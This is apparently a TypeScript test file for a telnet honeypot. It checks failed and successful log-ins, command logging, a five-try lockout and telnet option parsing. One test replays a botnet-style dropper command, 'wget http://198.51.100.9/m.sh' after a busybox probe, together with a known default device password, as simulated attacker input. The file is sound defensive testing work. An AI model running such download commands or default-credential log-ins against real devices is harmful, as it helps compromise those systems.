import { expect, test } from 'vitest';
import { serveDecoy } from '../host.test-suite.ts';
import { talk } from '../talk.test-suite.ts';
import { telnet } from './decoy.ts';
import { TelnetReader } from './options.ts';

test('a log-in is refused, another let in, and the shell answers', async () => {
  const served = await serveDecoy(telnet, { failureDelayMs: 0, accept: 'list', accounts: ['root:xc3511'] });
  try {
    const said = await talk(
      served.port,
      [
        'root\r\0',
        'wrong\r\0',
        'root\r\n',
        'xc3511\r\n',
        '/bin/busybox ECCHI; wget http://198.51.100.9/m.sh\r\n',
        'exit\r\n',
      ],
      { patience: 1500 },
    );
    expect(said).toMatch(
      /Debian GNU\/Linux 12\r\n\S+ login: root\r\nPassword: \r\n\r\nLogin incorrect\r\n\S+ login: root\r\nPassword: \r\n/,
    );
    expect(said).toMatch(/root@\S+:~# /);
    expect(said).not.toContain('wrong');
    expect(served.of('decoy.login').map(({ user, outcome, fields }) => [user, fields?.password, outcome])).toEqual([
      ['root', 'wrong', 'failure'],
      ['root', 'xc3511', 'success'],
    ]);
    expect((await served.until(({ event_type }) => event_type === 'decoy.command')).fields).toMatchObject({
      command: '/bin/busybox ECCHI; wget http://198.51.100.9/m.sh',
    });
  } finally {
    await served.stop();
  }
});

test('five refusals end it', async () => {
  const served = await serveDecoy(telnet, { failureDelayMs: 0, accept: 'never' });
  try {
    const said = await talk(
      served.port,
      Array.from({ length: 10 }, (_, index) => `${index % 2 === 0 ? 'admin' : 'admin1'}\r\n`),
      { patience: 1000 },
    );
    expect(said.match(/Login incorrect/g)).toHaveLength(5);
    expect(said).toContain('Maximum number of tries exceeded (5)');
  } finally {
    await served.stop();
  }
});

test('negotiation is taken out wherever it is cut', () => {
  const sent = [
    255, 251, 24, 255, 250, 24, 0, 88, 84, 69, 82, 77, 255, 240, 114, 255, 250, 31, 0, 132, 0, 43, 255, 240, 111, 255,
    255, 255, 253, 1, 255, 251, 99, 13, 0, 120, 13, 10,
  ];
  for (const size of [1, 2, 3, 5, 64]) {
    const reader = new TelnetReader();
    const typed: number[] = [];
    const answer: number[] = [];
    for (let at = 0; at < sent.length; at += size) {
      const read = reader.take(Uint8Array.from(sent.slice(at, at + size)));
      typed.push(...read.typed);
      answer.push(...read.answer);
    }
    expect(typed).toEqual([114, 111, 255, 13, 120, 13]);
    expect(answer).toEqual([255, 250, 24, 1, 255, 240, 255, 254, 99]);
    expect(reader.facts).toEqual({ columns: 132, rows: 43, terminal: 'xterm' });
  }
});
